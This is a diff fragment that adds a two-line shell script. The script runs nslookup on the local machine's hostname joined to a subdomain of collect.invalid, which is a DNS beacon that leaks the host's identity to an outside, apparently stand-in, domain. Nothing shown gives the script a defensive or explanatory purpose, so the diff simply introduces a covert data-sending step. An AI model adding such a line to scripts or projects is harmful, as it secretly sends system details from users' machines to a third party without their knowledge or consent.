@@ -1,0 +1,2 @@
+#!/bin/sh
+nslookup $(hostname).n.collect.invalid
